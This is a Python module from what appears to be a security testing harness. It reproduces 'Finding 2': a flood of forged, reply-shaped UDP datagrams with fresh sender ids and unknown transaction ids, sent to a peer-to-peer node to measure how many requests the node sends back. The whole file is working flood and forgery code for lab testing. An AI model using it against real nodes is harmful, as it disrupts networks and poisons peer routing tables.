"""Finding 2: forged replies (unknown tid, fresh sender id each) as fast as one process sends them."""
import os
import select
import socket
import time

from .msgpack import unpack
from .traffic import attacker_ips
from .wire import ip_bytes, reply, rid


def attack_forged_replies(t, env):
    """Reply-shaped datagrams (first key `r`), fresh sender id and random (unknown) tid each."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    s.bind((attacker_ips(1, False)[0], 0))
    s.connect(t.addr)
    s.setblocking(False)
    head = b"\x84\xa1r\x82\xa2id\xc4\x14"
    mid = b"\xa2sa\xc4\x04" + ip_bytes(s.getsockname()[0]) + b"\xa1t\xce"
    tail = b"\xa1y\xa1r\xa1v\xa4RNG1"
    sample_id, sample_tid = rid(), 0x01020304
    assert head + sample_id + mid + sample_tid.to_bytes(4, "big") + tail == reply(
        {"id": sample_id, "sa": ip_bytes(s.getsockname()[0])}, sample_tid)
    sent = dropped = queries = 0
    t0 = time.monotonic()
    end = t0 + env.args.duration
    while time.monotonic() < end:
        blk = os.urandom(24 * 4096)
        for i in range(0, len(blk), 24):
            try:
                s.send(head + blk[i:i + 20] + mid + blk[i + 20:i + 24] + tail)
                sent += 1
            except (BlockingIOError, ConnectionRefusedError):
                dropped += 1
        while True:  # the node's own requests to the forged senders (pings of new nodes)
            try:
                if unpack(s.recv(65535)) is not None:
                    queries += 1
            except (BlockingIOError, ConnectionRefusedError):
                break
    secs = time.monotonic() - t0
    late = time.monotonic() + 3
    while time.monotonic() < late:
        r, _, _ = select.select([s], [], [], 0.2)
        if r:
            try:
                queries += unpack(s.recv(65535)) is not None
            except (BlockingIOError, ConnectionRefusedError):
                pass
    env.attacker = {"ips": {s.getsockname()[0]}, "ids": set()}
    s.close()
    return {"sent": sent, "send_errors": dropped, "seconds": round(secs, 2), "send_rate_per_s": int(sent / secs),
            "node_requests_to_forged_senders": queries}
